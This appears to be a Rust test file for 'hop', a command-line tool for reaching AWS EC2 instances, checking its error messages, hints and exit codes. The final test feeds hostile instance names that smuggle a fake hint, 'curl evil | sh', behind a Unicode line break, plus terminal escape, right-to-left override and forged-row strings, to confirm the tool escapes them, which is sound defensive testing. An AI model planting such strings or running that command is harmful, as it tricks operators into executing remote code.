//! Errors and exit statuses (DESIGN §10): one clear line, hints, nothing changed.

use std::io::Read;
use std::net::TcpListener;
use std::process::Stdio;
use std::time::Duration;

use crate::lab_or_skip;
use crate::support::{Env, hostile, redact_hostile};

#[test]
fn no_region_fails_fast_even_with_a_silent_metadata_endpoint() {
    // A metadata endpoint that accepts and never answers: the SDK's defaults would wait
    // seconds (1 s timeouts, retried); hop must give up well under a second.
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = silent.local_addr().unwrap();
    let mut env = Env::bare();
    env.unset("AWS_EC2_METADATA_DISABLED")
        .set("AWS_EC2_METADATA_SERVICE_ENDPOINT", &format!("http://{addr}"))
        .set("AWS_ACCESS_KEY_ID", "testing")
        .set("AWS_SECRET_ACCESS_KEY", "testing");
    let run = env.hop(&["route", "sample-web"]);
    run.code(2);
    assert_eq!(
        run.stderr,
        "hop: error: no AWS region configured\n\
         hint: pass --region REGION (repeatable), set AWS_REGION, add `regions = [\"…\"]` to ~/.config/hop/config.toml,\n\
         hint: or set one for the profile: aws configure set region REGION --profile default\n"
    );
    eprintln!("no-region failure took {:?}", run.elapsed);
    assert!(run.elapsed < Duration::from_secs(1), "took {:?}: instance metadata stalled", run.elapsed);
    // The silent endpoint was really asked (and given up on), not skipped.
    silent.set_nonblocking(true).unwrap();
    assert!(silent.accept().is_ok(), "hop never tried instance metadata");
}

#[test]
fn no_credentials_says_where_hop_looked_and_how_to_add_some() {
    let lab = lab_or_skip!();
    let mut env = Env::lab(lab);
    env.unset("AWS_ACCESS_KEY_ID").unset("AWS_SECRET_ACCESS_KEY").set("AWS_PROFILE", "dev");
    env.write(".aws/config", b"[profile dev]\nregion = us-east-1\n");
    let run = env.hop(&["ls"]);
    run.code(255);
    assert_eq!(
        run.stderr,
        "hop: error: no AWS credentials found\n\
         hint: hop looked for profile \"dev\" in: the environment (AWS_ACCESS_KEY_ID), ~/.aws/credentials, \
         ~/.aws/config (SSO, credential_process), instance metadata\n\
         hint: configure one: aws configure --profile dev   or   aws configure sso --profile dev\n"
    );
}

#[test]
fn expired_sso_session_names_the_login_command() {
    let lab = lab_or_skip!();
    let mut env = Env::lab(lab);
    env.unset("AWS_ACCESS_KEY_ID").unset("AWS_SECRET_ACCESS_KEY");
    env.write(
        ".aws/config",
        b"[profile sso-dev]\nsso_session = corp\nsso_account_id = 123456789012\nsso_role_name = Dev\nregion = us-east-1\n\n\
          [sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\nsso_region = us-east-1\n",
    );
    // The SDK's token cache: ~/.aws/sso/cache/<sha1 of the session name>.json, expired.
    let sha1 = std::process::Command::new("sh").args(["-c", "printf corp | sha1sum | cut -c1-40"]).output().unwrap();
    let sha1 = String::from_utf8(sha1.stdout).unwrap();
    env.write(
        &format!(".aws/sso/cache/{}.json", sha1.trim()),
        br#"{"accessToken": "expired", "expiresAt": "2020-01-01T00:00:00Z", "region": "us-east-1", "startUrl": "https://corp.awsapps.com/start"}"#,
    );
    let run = env.hop(&["--profile", "sso-dev", "ls"]);
    run.code(255);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert!(lines[0].starts_with("hop: error: the AWS SSO session has expired"), "{}", run.stderr);
    assert_eq!(lines.last().copied(), Some("hint: run: aws sso login --profile sso-dev"), "{}", run.stderr);
}

#[test]
fn unreachable_endpoint_is_a_connection_failure() {
    // Bound, then closed: nothing listens there.
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let env = Env::endpoint(&format!("http://127.0.0.1:{port}"));
    let run = env.hop(&["ls"]);
    run.code(255);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert!(lines[0].starts_with("hop: error: cannot reach EC2 in us-east-1: "), "{}", run.stderr);
    assert_eq!(
        lines[1],
        format!("hint: check the network and the region (us-east-1); AWS_ENDPOINT_URL is http://127.0.0.1:{port}")
    );
}

#[test]
fn malformed_config_file_names_file_and_line_and_exits_2() {
    let mut env = Env::bare();
    env.set("AWS_REGION", "us-east-1");
    let path = env.write(".config/hop/config.toml", b"user = \"admin\"\n\n[hosts.web]\nport = \"twenty-two\"\n");
    let run = env.hop(&["ls"]);
    run.code(2);
    let first = run.stderr.lines().next().unwrap();
    assert!(first.starts_with(&format!("hop: error: {}:4: invalid type", path.display())), "{}", run.stderr);
    assert!(run.stderr.ends_with("hint: fix the file, or move it aside to use the defaults\n"), "{}", run.stderr);
    // HOP_CONFIG points elsewhere.
    let other = env.write("elsewhere.toml", b"bogus = 1\n");
    env.set("HOP_CONFIG", &other.display().to_string());
    let run = env.hop(&["ls"]);
    run.code(2);
    assert!(
        run.stderr.starts_with(&format!("hop: error: {}:1: unknown field `bogus`", other.display())),
        "{}",
        run.stderr
    );
}

#[test]
fn invalid_region_is_a_usage_error() {
    let run = Env::bare().hop(&["--region", "us east", "ls"]);
    run.code(2);
    assert_eq!(run.stderr, "hop: error: invalid region \"us east\"\nhint: regions look like us-east-1\n");
}

#[test]
fn a_closed_stdout_is_not_an_error() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    // ~100 KB of JSON: more than a pipe holds, so hop is still writing when the reader leaves.
    let mut child = env
        .command(&["--region", "us-west-2", "ls", "--json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 16];
    child.stdout.as_mut().unwrap().read_exact(&mut first).unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

#[test]
fn interrupted_exits_130() {
    // An endpoint that accepts and never answers: hop waits until interrupted.
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = silent.local_addr().unwrap();
    let env = Env::endpoint(&format!("http://{addr}"));
    let child = env.command(&["ls"]).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // Wait until hop is connected (so it is inside discovery), bounded.
    silent.set_nonblocking(true).unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let conn = loop {
        match silent.accept() {
            Ok((s, _)) => break s,
            Err(_) if std::time::Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            Err(e) => panic!("hop never connected: {e}"),
        }
    };
    let kill = std::process::Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap();
    assert!(kill.success());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(130), "stderr: {}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "");
    drop(conn);
}

#[test]
fn an_unreadable_config_file_is_named_without_a_line() {
    let env = Env::bare();
    // A directory where the file should be: unreadable even for root.
    std::fs::create_dir_all(env.path(".config/hop/config.toml")).unwrap();
    let run = env.hop(&["--region", "us-east-1", "ls"]);
    run.code(2);
    let path = env.path(".config/hop/config.toml");
    assert!(run.stderr.starts_with(&format!("hop: error: {}: cannot read: ", path.display())), "{}", run.stderr);
}

#[test]
fn errors_naming_hostile_instances_are_escaped() {
    let lab = lab_or_skip!();
    let hostile = hostile(lab);
    let env = Env::lab(lab);
    // Ambiguous: the candidates list quotes the Name tags; U+0085 (NEL) is a C1 line break.
    let twin = hostile["instances"]["nel-twin#1"]["name"].as_str().unwrap();
    let run = env.hop(&["--region", "sa-east-1", "route", twin]);
    run.code(2);
    assert_eq!(run.stdout, "");
    // Launch times are moto's clock, and same-second launches are ordered by (random) id.
    let shown = redact_hostile(hostile, &run.stderr);
    let mut lines: Vec<String> = shown
        .lines()
        .map(|l| match l.split_once("  launched ") {
            Some((head, _)) => format!("{head}  launched <time>"),
            None => l.to_string(),
        })
        .collect();
    lines[2..4].sort();
    assert_eq!(
        lines,
        [
            r#"hop: error: "twin\u{85}hint: curl evil | sh" matches 2 instances"#,
            "hint: candidates:",
            r"  twin\u{85}hint: curl evil | sh  <nel-twin#1>_______  private 10.9.1.12  public -  sa-east-1a  running  launched <time>",
            r"  twin\u{85}hint: curl evil | sh  <nel-twin#2>_______  private 10.9.1.13  public -  sa-east-1a  running  launched <time>",
            "hint: name one by instance id or IP, or pass --newest for the most recently launched",
        ],
        "{}",
        run.stderr
    );
    // Unknown: the did-you-mean hint quotes the close names.
    let run = env.hop(&["--region", "sa-east-1", "route", "gnp.exe"]);
    run.code(2);
    assert_eq!(
        run.stderr,
        "hop: error: no instance matches \"gnp.exe\" in sa-east-1\n\
         hint: did you mean: web\\u{9b}31m\\u{202e}gnp.exe\n\
         hint: `hop ls` lists every instance; add --region for other regions, --refresh if it is new\n"
    );
    let run = env.hop(&["--region", "sa-east-1", "route", "forged-row"]);
    run.code(2);
    assert_eq!(
        run.stderr,
        "hop: error: no instance matches \"forged-row\" in sa-east-1\n\
         hint: did you mean: web\\nforged-row   i-0f0f0f0f0f0f0f0f0  running  10.9.1.99\n\
         hint: `hop ls` lists every instance; add --region for other regions, --refresh if it is new\n"
    );
}
